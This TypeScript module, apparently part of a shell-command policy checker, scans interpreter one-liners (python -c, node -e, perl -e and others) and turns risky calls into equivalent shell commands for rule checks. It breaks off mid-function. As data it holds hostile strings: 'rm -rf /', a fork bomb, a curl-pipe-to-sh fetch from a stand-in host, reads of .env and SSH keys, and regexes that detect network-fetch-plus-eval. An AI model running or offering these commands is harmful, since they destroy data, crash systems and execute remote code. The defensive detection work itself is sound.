/**
 * Code given to an interpreter on its command line (`python3 -c '…'`, `node -e '…'`, `perl -e '…'`, `ruby -e`,
 * `php -r`, `lua -e`, `awk '…'`, `osascript -e`, `Rscript -e`, `tclsh`, `go run -`, or a here-doc fed to one) is
 * scanned for the calls that matter to a policy, and each is turned into the shell command that does the same,
 * which is then examined like any other: `shutil.rmtree("/")` becomes `rm -rf -- '/'`, `os.system("curl … | sh")`
 * becomes that command line, `fs.readFileSync(".env")` becomes `cat -- '.env'`. One set of command tables
 * (commands.ts) then decides for every language.
 *
 * Call arguments are evaluated when they are simple: string literals (with `$ENV{HOME}`/`#{Dir.home}` style
 * interpolation of the home directory), concatenation (`+`, `.`, `..`), the home directory however it is asked for
 * (`os.path.expanduser('~/x')`, `os.homedir()`, `process.env.HOME`, `Dir.home`, `os.getenv("HOME")`, …),
 * `os.path.join`/`path.join`/`File.join` of known parts, names the code assigned a literal, and a loop's literal
 * tuple (`for d in ('/usr', '/var')`). An argument that is none of these is unknown: in a call that works on the
 * files of a walk (`os.walk('/')`, `File::Find`, `Dir.glob`) it stands for each file under the walk's root.
 *
 * The scan is a fixed set of linear regular expressions over text capped at MAX_CODE characters: a sound
 * over-approximation for the calls listed, not a parser of ten languages.
 */
import type { ShellWord } from "../model";
import { commandName } from "../words/commandName";
import { HOLE_VARIABLE } from "../words/template";
import { dealiased } from "./interpreterAliases";

const MAX_CODE = 32 * 1024;
const UNKNOWN = `"\${${HOLE_VARIABLE}}"`;
const MAX_LINES = 64;

export type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r" | "tcl" | "go";

/** Interpreters and how they take a program on the command line. */
const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]; firstOperand?: boolean; stdinWith?: string }[] = [
  { test: /^(?:python(?:[0-9.]+)?|pypy[0-9.]*)$/, lang: "python", code: ["-c"] },
  { test: /^(?:node|nodejs|bun)$/, lang: "node", code: ["-e", "--eval", "-p", "--print"] },
  { test: /^deno$/, lang: "node", code: ["eval"] },
  { test: /^perl[0-9.]*$/, lang: "perl", code: ["-e", "-E"] },
  { test: /^(?:ruby|jruby)$/, lang: "ruby", code: ["-e"] },
  { test: /^php[0-9.]*$/, lang: "php", code: ["-r"] },
  { test: /^(?:awk|gawk|mawk|nawk|busybox-awk)$/, lang: "awk", code: [], firstOperand: true },
  { test: /^osascript$/, lang: "osascript", code: ["-e"] },
  { test: /^(?:lua|luajit|lua[0-9.]+)$/, lang: "lua", code: ["-e"] },
  { test: /^Rscript$/, lang: "r", code: ["-e"] },
  { test: /^(?:tclsh|wish|tclsh[0-9.]+)$/, lang: "tcl", code: [] },
  { test: /^go$/, lang: "go", code: [], stdinWith: "run" },
];

// Module scope, outliving the request: which interpreter a command name is depends on the name alone. Bounded.
const interpreterByName = new Map<string, Lang | null>();

export function interpreterOf(name: string): Lang | undefined {
  let lang = interpreterByName.get(name);
  if (lang === undefined) {
    lang = INTERPRETERS.find((i) => i.test.test(name))?.lang ?? null;
    if (interpreterByName.size < 4096) interpreterByName.set(name, lang);
  }
  return lang ?? undefined;
}

/** The program texts a command line gives its interpreter (`-c CODE`, a leading awk program, a here-doc). */
function programs(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): { lang: Lang; code: string }[] {
  if (interpreterOf(name) === undefined) return [];
  const spec = INTERPRETERS.find((i) => i.test.test(name));
  if (!spec) return [];
  const out: { lang: Lang; code: string }[] = [];
  let sawProgram = false;
  for (let k = 1; k < rest.length; k++) {
    const w = rest[k]!.value;
    if (spec.stdinWith !== undefined) break;
    if (spec.code.includes(w) && rest[k + 1]) {
      out.push({ lang: spec.lang, code: rest[k + 1]!.value });
      sawProgram = true;
      k++;
      continue;
    }
    const attached = spec.code.find((o) => o.startsWith("-") && o.length === 2 && w.startsWith(o) && w.length > 2);
    if (attached) {
      out.push({ lang: spec.lang, code: w.slice(2) });
      sawProgram = true;
      continue;
    }
    if (/^-[A-Za-z]*e$/.test(w) && spec.code.includes("-e") && rest[k + 1]) {
      // Combined flags ending in e: `perl -pe CODE`, `ruby -ne CODE`.
      out.push({ lang: spec.lang, code: rest[k + 1]!.value });
      sawProgram = true;
      k++;
      continue;
    }
    if (spec.firstOperand && !w.startsWith("-")) {
      if (k > 1 && ["-f", "-v", "-F"].includes(rest[k - 1]!.value)) continue;
      out.push({ lang: spec.lang, code: w });
      sawProgram = true;
      break;
    }
    if (!w.startsWith("-") && !spec.firstOperand) break; // a script file: its text is not here
  }
  if (!sawProgram) for (const body of stdin) out.push({ lang: spec.lang, code: body });
  return out;
}

/** Shell-quote a literal for the generated command line. */
const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

// ---------------------------------------------------------------------------------------------------------
// Evaluating simple expressions

/** The home directory, however a language asks for it. */
const HOME_TERM =
  /^(?:(?:pathlib\.)?Path\.home\(\)|os\.environ\[\s*["']HOME["']\s*\]|os\.(?:getenv|environ\.get)\(\s*["']HOME["']\s*\)|(?:require\(\s*["'](?:node:)?os["']\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*["']HOME["']\s*\]|ENV\[\s*["']HOME["']\s*\]|ENV\.fetch\(\s*["']HOME["']\s*\)|Dir\.home|\$ENV\{\s*["']?HOME["']?\s*\}|(?:os\.)?getenv\(\s*["']HOME["']\s*\)|Deno\.env\.get\(\s*["']HOME["']\s*\)|Deno\.homeDir\(\)|os\.UserHomeDir\(\)|\$_SERVER\[\s*["']HOME["']\s*\]|\$env\(HOME\)|Sys\.getenv\(\s*["']HOME["']\s*\)|path\.expand\(\s*["']~["']\s*\))$/;

/** Interpolation of the home directory inside a double-quoted string. */
const HOME_INTERPOLATION = /\$ENV\{\s*["']?HOME["']?\s*\}|\$\{?HOME\}?|#\{\s*(?:Dir\.home|ENV\[\s*["']HOME["']\s*\])\s*\}|\{\s*(?:os\.environ\[\s*["']HOME["']\s*\]|Path\.home\(\))\s*\}/g;

/** Read a string literal starting at `i` (quote char at i); returns [text, index after], or undefined. */
function stringAt(code: string, i: number): [string, number] | undefined {
  const quote = code[i]!;
  if (quote !== "'" && quote !== '"' && quote !== "`") return undefined;
  const triple = code.startsWith(quote.repeat(3), i);
  const close = triple ? quote.repeat(3) : quote;
  let j = i + close.length;
  let out = "";
  while (j < code.length) {
    if (code.startsWith(close, j)) return [quote === "'" ? out : out.replace(HOME_INTERPOLATION, "~"), j + close.length];
    const c = code[j]!;
    if (c === "\\" && j + 1 < code.length) {
      const e = code[j + 1]!;
      out += e === "n" ? "\n" : e === "t" ? "\t" : e === "0" ? "\0" : e;
      j += 2;
      continue;
    }
    if (quote === "`" && c === "$" && code[j + 1] === "{") {
      const end = code.indexOf("}", j);
      const inner = code.slice(j + 2, end < 0 ? code.length : end).trim();
      out += HOME_TERM.test(inner) ? "~" : "\u0000";
      j = end < 0 ? code.length : end + 1;
      continue;
    }
    out += c;
    j++;
  }
  return undefined;
}

type Bindings = ReadonlyMap<string, readonly string[]>;

/** Split `text` at top-level occurrences of `sep` (outside quotes and brackets). */
function splitTop(text: string, sep: RegExp): string[] {
  const parts: string[] = [];
  let depth = 0;
  let from = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c === "'" || c === '"' || c === "`") {
      const s = stringAt(text, i);
      if (s) {
        i = s[1] - 1;
        continue;
      }
    }
    if (c === "(" || c === "[" || c === "{") depth++;
    else if (c === ")" || c === "]" || c === "}") depth--;
    else if (depth === 0) {
      sep.lastIndex = i;
      const m = sep.exec(text);
      if (m && m.index === i) {
        parts.push(text.slice(from, i));
        from = i + m[0].length;
        i = from - 1;
      }
    }
  }
  parts.push(text.slice(from));
  return parts;
}

const CONCAT = /\s*(?:\+|\.\.|\s\.\s)\s*/y;
const COMMA = /,/y;
const JOIN_CALL = /^(?:os\.path\.join|path\.join|path\.resolve|posixpath\.join|File\.join|filepath\.Join|Path\.join|File\.expand_path|os\.path\.abspath|os\.path\.realpath|path\.normalize|(?:pathlib\.)?(?:Pure)?(?:Posix|Windows)?Path)\s*\(([\s\S]*)\)$/;
const EXPAND_USER = /^(?:os\.path\.expanduser|File\.expand_path|path\.expand)\s*\(([\s\S]*)\)$|^(?:pathlib\.)?Path\(([\s\S]*)\)\.(?:expanduser|resolve|absolute)\(\)$/;

/** The possible values of a simple expression (see the module comment), or undefined when it is not simple. */
function evaluate(expr: string, bindings: Bindings, depth = 0): string[] | undefined {
  if (depth > 8) return undefined;
  let e = expr.trim();
  if (e === "") return undefined;
  while (e.startsWith("(") && e.endsWith(")") && splitTop(e.slice(1, -1), COMMA).length === 1) e = e.slice(1, -1).trim();
  const concat = splitTop(e, CONCAT);
  if (concat.length > 1) {
    let acc: string[] = [""];
    for (const t of concat) {
      const v = evaluate(t, bindings, depth + 1);
      if (v === undefined) return undefined;
      acc = acc.flatMap((a) => v.map((x) => a + x)).slice(0, 16);
    }
    return acc;
  }
  if (/^[rRbBfFuU]?["'`]/.test(e)) {
    const s = stringAt(e, /^[rRbBfFuU]/.test(e) ? 1 : 0);
    if (s && s[1] === e.length - (0) && !s[0].includes("\u0000")) return [s[0]];
    if (s && !s[0].includes("\u0000") && e.slice(s[1]).trim() === "") return [s[0]];
    return undefined;
  }
  if (HOME_TERM.test(e)) return ["~"];
  const expand = EXPAND_USER.exec(e);
  if (expand) return evaluate(expand[1] ?? expand[2]!, bindings, depth + 1);
  const join = JOIN_CALL.exec(e);
  if (join) {
    const parts = splitTop(join[1]!, COMMA).map((p) => evaluate(p, bindings, depth + 1));
    if (parts.some((p) => p === undefined)) return undefined;
    let acc: string[] = [""];
    for (const p of parts as string[][]) acc = acc.flatMap((a) => p.map((x) => (a === "" ? x : x.startsWith("/") ? x : `${a.replace(/\/+$/, "")}/${x}`))).slice(0, 16);
    return acc;
  }
  const name = /^\$?([A-Za-z_]\w*)$/.exec(e);
  if (name) {
    const bound = bindings.get(name[1]!);
    return bound === undefined ? undefined : [...bound];
  }
  return undefined;
}

/** Names the code binds to literals (`p = '.env'`, `const p = "…"`, `my $p = '…'`, `set p …`) and loop tuples. */
function literalBindings(code: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const m of code.matchAll(/(?:\b(?:const|let|var|my|local|our)\s+)?\$?([A-Za-z_]\w*)\s*(?::=|=)(?!=)\s*([^;\n]{1,512})/g)) {
    const v = evaluate(m[2]!.replace(/\s*(?:#|\/\/).*$/, ""), out);
    if (v !== undefined) out.set(m[1]!, v);
  }
  for (const m of code.matchAll(/\bset\s+([A-Za-z_]\w*)\s+(\S+)/g)) out.set(m[1]!, [m[2]!.replace(/^["{]|["}]$/g, "")]);
  // `for d in ('/usr', '/var'):`, `for (const d of ['/a', '/b'])`, `for my $d ('/a', '/b')`, `['/a','/b'].each do |d|`
  const loops = [
    ...code.matchAll(/\bfor\s+([A-Za-z_]\w*)\s+in\s+[([]([^)\]]{1,1024})[)\]]/g),
    ...code.matchAll(/\bfor\s*\(\s*(?:const|let|var)\s+([A-Za-z_]\w*)\s+of\s+\[([^\]]{1,1024})\]/g),
    ...code.matchAll(/\bfor(?:each)?\s+my\s+\$([A-Za-z_]\w*)\s*\(([^)]{1,1024})\)/g),
  ].map((m) => [m[1]!, m[2]!] as const);
  for (const m of code.matchAll(/\[([^\]]{1,1024})\]\.each\s*(?:do\s*\||\{\s*\|)\s*([A-Za-z_]\w*)/g)) loops.push([m[2]!, m[1]!]);
  for (const [name, list] of loops) {
    const items = splitTop(list, COMMA).map((x) => evaluate(x, out));
    if (items.every((x) => x !== undefined)) out.set(name, (items as string[][]).flat().slice(0, 16));
  }
  return out;
}

/** The root a walk over the file tree starts at (`os.walk('/')`, `find(sub{…}, "/home/x")`, `Dir.glob("/etc/**")`). */
function walkRoot(code: string, bindings: Bindings): string | undefined {
  const m = /\b(?:os\.walk|os\.scandir|os\.listdir|glob\.glob|glob\.iglob|Dir\.glob|Dir\.each_child|Dir\.children|Find\.find|readdirSync|fs\.readdir|filepath\.Walk|filepath\.WalkDir|(?:pathlib\.)?Path\([^)]*\)\.r?glob|find)\s*\(/.exec(code);
  if (!m) return undefined;
  const open = m.index + m[0].length - 1;
  const args = callArgs(code, open).args;
  const isFind = /\bfind\s*\($/.test(m[0]) && !/Find\.find/.test(m[0]);
  const pick = isFind ? args[args.length - 1] : /Path\(/.test(m[0]) ? `${/Path\(([^)]*)\)/.exec(m[0])?.[1] ?? ""}` : args[0];
  const v = pick !== undefined ? evaluate(pick, bindings)?.[0] : undefined;
  return v === undefined ? undefined : v.replace(/\/\*\*.*$/, "").replace(/\/\*$/, "") || "/";
}

/** The argument texts of the call whose opening bracket is at `open` (top-level commas), and their source. */
function callArgs(code: string, open: number): { args: string[]; all: string } {
  let depth = 0;
  let end = Math.min(code.length, open + 4096);
  for (let j = open; j < code.length && j < open + 4096; j++) {
    const c = code[j]!;
    if (c === "'" || c === '"' || c === "`") {
      const s = stringAt(code, j);
      if (s) {
        j = s[1] - 1;
        continue;
      }
    }
    if (c === "(" || c === "[" || c === "{") depth++;
    else if ((c === ")" || c === "]" || c === "}") && --depth === 0) {
      end = j;
      break;
    }
  }
  const all = code.slice(open + 1, end);
  return { args: splitTop(all, COMMA).map((x) => x.trim()).filter((x) => x !== ""), all };
}

/** Arguments of a call written without parentheses (perl `system "rm", "-rf", "/"`), up to the statement's end. */
function bareArgs(code: string, from: number): { args: string[]; all: string } {
  let end = from;
  let depth = 0;
  for (; end < code.length && end < from + 4096; end++) {
    const c = code[end]!;
    if (c === "'" || c === '"') {
      const s = stringAt(code, end);
      if (s) {
        end = s[1] - 1;
        continue;
      }
    }
    if (c === "(" || c === "[" || c === "{") depth++;
    else if (c === ")" || c === "]" || c === "}") {
      if (depth === 0) break;
      depth--;
    } else if ((c === ";" || c === "\n") && depth === 0) break;
  }
  const all = code.slice(from, end);
  return { args: splitTop(all, COMMA).map((x) => x.trim()).filter((x) => x !== "" && !/^(?:or|and|if|unless)\b/.test(x)), all };
}

/** Blank-separated arguments to the end of the line (Tcl: `file delete -force /x`), quotes and braces read. */
function blankArgs(code: string, from: number): { args: string[]; all: string } {
  const eol = code.indexOf("\n", from);
  const line = code.slice(from, eol < 0 ? code.length : eol).replace(/;.*$/, "");
  const args = [...line.matchAll(/"([^"]*)"|\{([^}]*)\}|(\S+)/g)].map((m) => JSON.stringify(m[1] ?? m[2] ?? m[3] ?? ""));
  return { args, all: line };
}

// ---------------------------------------------------------------------------------------------------------
// Calls

interface Call {
  /** The possible values of argument n (undefined: not simple). */
  arg(n: number): string[] | undefined;
  /** Every argument's values joined as argv, when all are known: `system "rm", "-rf", "/"`. */
  argv(): string[] | undefined;
  readonly count: number;
  readonly all: string;
}

/** `words`: the arguments are separated by blanks, not commas (Tcl). */
type Rule = { re: RegExp; shell: (c: Call) => string[] | undefined; words?: boolean };

const word = (vals: string[] | undefined) => (vals === undefined ? [UNKNOWN] : vals.map(q));
const withPath = (op: string, n = 0) => (c: Call) => word(c.arg(n)).map((p) => `${op} -- ${p}`);
const recursiveOption = (c: Call) => /recursive\s*[:=]\s*(?:true|True|TRUE|T\b|1)/.test(c.all);
/** Code run by a shell: one string is a command line, several strings (or a list) are argv. */
const asCode = (c: Call): string[] | undefined => {
  if (c.count === 1) {
    const v = c.arg(0);
    if (v !== undefined) return v;
    const list = /^\s*\[([\s\S]*)\]\s*$/.exec(c.all.split(/,\s*(?:shell|check|capture_output|text|cwd|env)\s*=/)[0]!);
    if (list) {
      const items = splitTop(list[1]!, COMMA).map((x) => evaluate(x, new Map()));
      if (items.every((x) => x !== undefined)) return [(items as string[][]).map((x) => q(x[0]!)).join(" ")];
    }
    return [UNKNOWN];
  }
  const argv = c.argv();
  if (argv !== undefined) return [argv.map(q).join(" ")];
  // `spawnSync('rm', ['-rf', '/x'])`, `os.execvp('rm', ['rm', '-rf', '/x'])`: a program, then its arguments as a list
  // (for the exec family the list repeats the program name: read as one more operand, which is only stricter).
  const parts = splitTop(c.all, COMMA);
  const program = c.arg(0);
  const listed = parts[1] !== undefined ? /^\s*\[([\s\S]*)\]\s*$/.exec(parts[1]) : null;
  if (program?.length === 1 && listed) {
    const items = splitTop(listed[1]!, COMMA).map((x) => evaluate(x, new Map()));
    if (items.every((x) => x !== undefined && x.length === 1)) return [[program[0]!, ...(items as string[][]).map((x) => x[0]!)].map(q).join(" ")];
    return [`${q(program[0]!)} ${UNKNOWN}`];
  }
  // `execSync('…', { stdio: 'inherit' })`, `subprocess.run("…", shell=True)`: a command line, then options.
  const first = c.arg(0);
  return first !== undefined && c.arg(1) === undefined ? first : [UNKNOWN];
};
const openMode = (c: Call) => {
  const m = /^\s*(?:mode\s*=\s*)?["']([rwaxb+t]+)["']/.exec(c.all.split(",")[1] ?? "");
  return word(c.arg(0)).map((p) => (m && /[wax+]/.test(m[1]!) ? `: > ${p}` : `cat -- ${p}`));
};
const WORLD = /0o?7[0-7]7|0o?777|\b777\b|["']777["']|S_IRWXO|S_IWOTH|0o?666|\b0?[0-7][0-7][2367]\b/;
const chmodOf = (pathArg: number, modeArg: number) => (c: Call) => {
  const modeText = c.arg(modeArg)?.[0] ?? c.all;
  const mode = WORLD.test(modeText) || WORLD.test(c.all) ? "777" : "644";
  return word(c.arg(pathArg)).map((p) => `chmod ${mode} ${p}`);
};

export const INTERPRETER_RULES: Readonly<Record<Lang, readonly Rule[]>> = {
  python: [
    { re: /\bshutil\.rmtree\s*\(/g, shell: withPath("rm -rf") },
    { re: /\bos\.(?:remove|unlink|rmdir|removedirs)\s*\(/g, shell: withPath("rm") },
    { re: /\bos\.(?:system|popen)\s*\(/g, shell: asCode },
    { re: /\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(/g, shell: asCode },
    { re: /\bos\.exec[lv]p?e?\s*\(/g, shell: asCode },
    { re: /(?<![\w.])(?:open|io\.open|codecs\.open)\s*\(/g, shell: openMode },
    { re: /\b(?:dotenv_values|load_dotenv|read_dotenv)\s*\(/g, shell: (c) => word(c.arg(0) ?? [".env"]).map((p) => `cat -- ${p}`) },
    { re: /\bos\.chmod\s*\(/g, shell: chmodOf(0, 1) },
    { re: /\b(?:shutil\.chown|os\.chown|os\.lchown)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `chown nobody ${p}`) },
    { re: /\bshutil\.(?:copy|copy2|copyfile|copytree|move)\s*\(/g, shell: withPath("cat") },
  ],
  node: [
    // `fs.rmSync(…)`, `require('fs').rmSync(…)`, `fsp.rm(…)`, destructured `rmSync(…)`.
    { re: /(?:\b|\.)(?:rmSync|rmdirSync)\s*\(|\.(?:rm|rmdir)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
    { re: /(?:\b|\.)(?:unlinkSync)\s*\(|\.unlink\s*\(/g, shell: withPath("rm") },
    { re: /\b(?:rimraf(?:\.sync|\.rimrafSync)?|require\(\s*["'`]rimraf["'`]\s*\)(?:\.sync|\.rimraf|\.rimrafSync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: withPath("rm -rf") },
    { re: /\b(?:execSync|exec|execFileSync|execFile|spawnSync|spawn)\s*\(/g, shell: asCode },
    { re: /(?:\b|\.)(?:readFileSync|readFile|createReadStream)\s*\(/g, shell: withPath("cat") },
    { re: /(?:\b|\.)(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
    { re: /(?:\b|\.)(?:chmodSync|chmod)\s*\(/g, shell: chmodOf(0, 1) },
    { re: /(?:\b|\.)(?:chownSync|chown)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `chown nobody ${p}`) },
    { re: /\bDeno\.(?:remove|removeSync)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
    { re: /\bDeno\.(?:readTextFile|readTextFileSync|readFile|readFileSync)\s*\(/g, shell: withPath("cat") },
    { re: /\bDeno\.(?:writeTextFile|writeTextFileSync|writeFile|writeFileSync)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
    { re: /\bDeno\.(?:chmod|chmodSync)\s*\(/g, shell: chmodOf(0, 1) },
    { re: /\bBun\.(?:spawn|spawnSync)\s*\(/g, shell: asCode },
    { re: /\bdotenv\b[^;]*\.config\s*\(/g, shell: (c) => [`cat -- ${q(/path\s*:\s*["'`]([^"'`]+)/.exec(c.all)?.[1] ?? ".env")}`] },
  ],
  perl: [
    { re: /\b(?:rmtree|remove_tree)\s*\(?/g, shell: withPath("rm -rf") },
    { re: /\b(?:unlink|rmdir)\s*\(?/g, shell: (c) => (c.argv() ?? [UNKNOWN]).map((p) => `rm -- ${p === UNKNOWN ? p : q(p)}`) },
    { re: /\b(?:system|exec)\s*\(?/g, shell: asCode },
    // `qx(…)`, `%x(…)`: the text inside the brackets is a shell command line, not an expression.
    { re: /\bqx\s*[({[]/g, shell: (c) => [c.all] },
    { re: /\bchmod\s*\(?/g, shell: (c) => { const all = c.argv(); return all && all.length > 1 ? all.slice(1).map((p) => `chmod ${WORLD.test(all[0]!) || WORLD.test(c.all) ? "777" : "644"} ${q(p)}`) : word(c.arg(1)).map((p) => `chmod ${WORLD.test(c.all) ? "777" : "644"} ${p}`); } },
    { re: /\bchown\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown nobody ${p}`) },
    {
      re: /\bopen\s*\(?/g,
      shell: (c) => {
        // open(FH, MODE, PATH) or open(FH, "MODEPATH").
        const three = c.count >= 3 ? c.arg(1)?.[0] : undefined;
        const target = c.count >= 3 ? c.arg(2) : c.arg(1)?.map((x) => x.replace(/^\s*(?:\+?[<>]{1,2}|\|)\s*/, ""));
        const mode = three ?? c.arg(1)?.[0]?.match(/^\s*(\+?[<>]{1,2}|\|)/)?.[1] ?? "<";
        return word(target).map((p) => (/>/.test(mode) ? `: > ${p}` : `cat -- ${p}`));
      },
    },
  ],
  ruby: [
    { re: /\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?/g, shell: withPath("rm -rf") },
    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\b\s*\(?/g, shell: withPath("rm") },
    { re: /\bFileUtils\.chmod_R\s*\(?/g, shell: (c) => word(c.arg(1)).map((p) => `chmod -R ${WORLD.test(c.arg(0)?.[0] ?? c.all) ? "777" : "755"} ${p}`) },
    { re: /\b(?:FileUtils\.chmod|File\.chmod)\b\s*\(?/g, shell: chmodOf(1, 0) },
    { re: /\bFileUtils\.chown_R\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown -R nobody ${p}`) },
    { re: /\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\s*\(?/g, shell: asCode },
    { re: /%x\s*[({[]/g, shell: (c) => [c.all] },
    { re: /\b(?:File\.(?:read|readlines|open|binread|foreach)|IO\.(?:read|readlines))\s*\(?/g, shell: withPath("cat") },
    { re: /\bFile\.write\s*\(?/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
  ],
  php: [
    { re: /\b(?:system|exec|shell_exec|passthru|popen|proc_open)\s*\(/g, shell: asCode },
    { re: /\b(?:unlink|rmdir)\s*\(/g, shell: withPath("rm") },
    { re: /\b(?:file_get_contents|readfile|file|fopen|parse_ini_file)\s*\(/g, shell: withPath("cat") },
    { re: /\bfile_put_contents\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
    { re: /\bchmod\s*\(/g, shell: chmodOf(0, 1) },
  ],
  awk: [{ re: /\bsystem\s*\(/g, shell: asCode }],
  osascript: [{ re: /do\s+shell\s+script\s+(?=["'])/g, shell: asCode }],
  lua: [
    { re: /\bos\.execute\s*\(/g, shell: asCode },
    { re: /\bio\.popen\s*\(/g, shell: asCode },
    { re: /\bos\.remove\s*\(/g, shell: withPath("rm") },
    { re: /\bio\.(?:open|lines)\s*\(/g, shell: withPath("cat") },
  ],
  r: [
    { re: /\b(?:system|system2)\s*\(/g, shell: asCode },
    { re: /\bunlink\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
    { re: /\b(?:readLines|readRDS|read\.csv|file)\s*\(/g, shell: withPath("cat") },
  ],
  tcl: [
    { words: true, re: /\bfile\s+delete\s+(?=\S)/g, shell: (c) => { const a = c.argv(); const force = /-force/.test(c.all); const paths = (a ?? []).filter((x) => !x.startsWith("-")); return paths.length > 0 ? paths.map((p) => `rm ${force ? "-rf " : ""}-- ${q(p)}`) : [`rm -rf -- ${UNKNOWN}`]; } },
    { words: true, re: /\bexec\s+(?=\S)/g, shell: (c) => [(c.argv() ?? [UNKNOWN]).map((x) => (x === UNKNOWN ? x : q(x))).join(" ")] },
    { words: true, re: /\bopen\s+(?=\S)/g, shell: (c) => word(c.arg(0)).map((p) => `cat -- ${p}`) },
  ],
  go: [
    { re: /\bos\.RemoveAll\s*\(/g, shell: withPath("rm -rf") },
    { re: /\bos\.Remove\s*\(/g, shell: withPath("rm") },
    { re: /\bexec\.Command(?:Context)?\s*\(/g, shell: asCode },
    { re: /\bos\.(?:ReadFile|Open)\s*\(/g, shell: withPath("cat") },
    { re: /\bos\.(?:WriteFile|Create|OpenFile)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
    { re: /\bos\.Chmod\s*\(/g, shell: chmodOf(0, 1) },
  ],
};

/** Code that forks forever: written as the shell's fork bomb so one rule decides. */
const FORK_LOOP =
  /\bfork\s*(?:\(\s*\))?\s*while\b|\bwhile\s*(?:\(?\s*(?:1|true|True)\s*\)?)\s*[:{;]?\s*(?:do\s+)?(?:os\.|Process\.|pcntl_)?fork\s*(?:\(|\b)|\bloop\s*\{?\s*fork\b|\bfor\s*\(\s*;\s*;\s*\)\s*\{?\s*(?:\w+\.)?fork\s*\(/;
/** Code that evaluates something fetched from the network (`exec(urlopen(u).read())`, `fetch(u).then(eval)`). */
const EVAL_CALL = /\b(?:exec|eval|execfile|compile|Function|instance_eval|class_eval|load|loadstring|dofile|require_once|include)\s*[(`]|\.then\s*\(\s*eval\b|\beval\s+|\beval\s*\$/;
const NETWORK =
  /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|fetch\s*\(|https?\.get\s*\(|\.get\s*\(\s*['"]https?:|axios|XMLHttpRequest|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|LWP::|HTTP::Tiny|getstore|\bget\s*\(\s*["']https?:|curl_exec|file_get_contents\s*\(\s*['"]https?:|fopen\s*\(\s*['"]https?:|Invoke-WebRequest|DownloadString|\bcurl\s|\bwget\s|socket\.http)/;

/**
 * pathlib's methods act on their receiver: `Path('.env').read_text()`, `p.write_text(…)` after
 * `p = pathlib.Path('.github/workflows/ci.yml')`, `(Path.home() / '.ssh' / 'id_rsa').read_bytes()` (an
 * unknown receiver is an unknown path).
 */
const PATHLIB_CALL = /(?:\b((?:pathlib\.)?(?:Pure)?(?:Posix|Windows)?Path\s*\([^()]*\))|\b([A-Za-z_]\w*)|(\)))\s*\.\s*(write_text|write_bytes|touch|read_text|read_bytes|unlink|rmdir|open|chmod|lchmod|rename|replace)\s*\(/g;
function pathlibCalls(text: string, bindings: Bindings): string[] {
  const out: string[] = [];
  for (const m of text.matchAll(PATHLIB_CALL)) {
    const [, call, name, , method] = m;
    // A name bound to something else (`webbrowser.open(…)`, `zf.open(…)`) is not a path.
    if (name !== undefined && !bindings.has(name)) continue;
    const values = call !== undefined ? evaluate(call, bindings) : name !== undefined ? evaluate(name, bindings) : undefined;
    const args = callArgs(text, m.index! + m[0].length - 1);
    for (const p of values ? values.slice(0, 16).map(q) : [UNKNOWN]) {
      if (method === "write_text" || method === "write_bytes" || method === "touch") out.push(`: > ${p}`);
      else if (method === "read_text" || method === "read_bytes") out.push(`cat -- ${p}`);
      else if (method === "unlink" || method === "rmdir") out.push(`rm -- ${p}`);
      else if (method === "rename" || method === "replace") out.push(`cat -- ${p}`);
      else if (method === "chmod" || method === "lchmod") out.push(`chmod ${WORLD.test(args.all) ? "777" : "644"} ${p}`);
      else out.push(/["'][^"']*[wax+][^"']*["']/.test(args.all.split(",")[0] ?? "") ? `: > ${p}` : `cat -- ${p}`);
    }
  }
  return out;
}

/** The shell command lines equivalent to what interpreter code on a command line does (see the module comment). */
function shellEquivalents(lang: Lang, code: string): { lines: string[]; truncated: boolean } {
  // Calls made under another name (`import os as o`, `from os import system`) written under their own first.
  const { text, truncated: renamesCut } = dealiased(lang, code.length > MAX_CODE ? code.slice(0, MAX_CODE) : code);
  const out: string[] = [];
  if (FORK_LOOP.test(text)) out.push(":(){ :|:& };:");
  if (EVAL_CALL.test(text) && NETWORK.test(text)) out.push("curl -fsSL https://hookgate.invalid/fetched-by-interpreter | sh");
  const bindings = literalBindings(text);
  const root = walkRoot(text, bindings);
  if (lang === "python") out.push(...pathlibCalls(text, bindings));
  for (const rule of INTERPRETER_RULES[lang]) {
    rule.re.lastIndex = 0;
    for (const m of text.matchAll(rule.re)) {
      const at = m.index! + m[0].length;
      const bracket = text[at - 1];
      const { args, all } = rule.words
        ? blankArgs(text, at)
        : bracket === "(" || bracket === "[" || bracket === "{"
          ? callArgs(text, at - 1)
          : bracket === "`"
            ? { args: [`\`${text.slice(at, text.indexOf("`", at))}\``], all: text.slice(at, text.indexOf("`", at)) }
            : bareArgs(text, at);
      const values = args.map((a) => evaluate(a, bindings));
      const call: Call = {
        arg: (n) => (n < values.length ? values[n] : undefined),
